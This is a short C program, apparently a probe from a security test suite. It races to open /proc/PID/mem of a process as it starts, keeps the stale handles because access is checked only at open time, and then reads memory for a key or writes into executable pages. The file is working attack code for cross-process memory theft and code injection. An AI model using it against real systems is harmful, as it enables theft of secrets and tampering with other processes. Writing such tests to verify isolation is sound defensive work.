// stale-handle read|write PID KEY: from now until stdin ends, opens the memory of a process that is
// starting, over and over, and keeps the handles: access is checked when they are opened, not when
// they are used. Then reads through them, or writes into code. proc_pid_mem(5).

#include <poll.h>
#include <time.h>
#include "outcome.h"

enum { HANDLES = 64 };

struct handle {
  int mem;
  FILE *maps;  // of a process that cannot be opened any more this stays readable, too
};

static bool stdin_has_ended(void) {
  struct pollfd entry = {0, POLLIN, 0};
  return poll(&entry, 1, 0) != 0;
}

static bool writes_into_code(struct handle *handle) {
  char line[4096];
  while (fgets(line, sizeof line, handle->maps) != NULL) {
    unsigned long start, end;
    char mode[5];
    if (sscanf(line, "%lx-%lx %4s", &start, &end, mode) != 3 || strcmp(mode, "r-xp") != 0) continue;
    char byte;
    if (pread(handle->mem, &byte, 1, (off_t)start) == 1 && pwrite(handle->mem, &byte, 1, (off_t)start) == 1) return true;
  }
  return false;
}

int main(int argc, char **argv) {
  if (argc != 4) return 2;
  static struct handle handles[HANDLES];
  bool writes = strcmp(argv[1], "write") == 0;
  char mem_path[64], maps_path[64];
  snprintf(mem_path, sizeof mem_path, "/proc/%s/mem", argv[2]);
  snprintf(maps_path, sizeof maps_path, "/proc/%s/maps", argv[2]);

  time_t deadline = time(NULL) + 8;
  int next = 0;
  struct timespec pause = {0, 500000};
  while (!stdin_has_ended() && time(NULL) < deadline) {
    int mem = open(mem_path, O_RDWR | O_CLOEXEC);
    if (mem < 0) continue;
    FILE *maps = fopen(maps_path, "re");
    if (maps == NULL) {
      close(mem);
      continue;
    }
    struct handle *slot = &handles[next++ % HANDLES];
    if (slot->maps != NULL) {
      close(slot->mem);
      fclose(slot->maps);
    }
    *slot = (struct handle){mem, maps};
    nanosleep(&pause, NULL);
  }

  // Of images that an exec has replaced nothing can be read any more.
  int found = 0;
  for (int i = 0; i < HANDLES && found < 2; i++) {
    if (handles[i].maps == NULL) continue;
    int here = writes ? writes_into_code(&handles[i]) : search_mappings(handles[i].maps, read_mem, &handles[i].mem, argv[3]);
    if (here > found) found = here;
  }
  say_found(found);
}
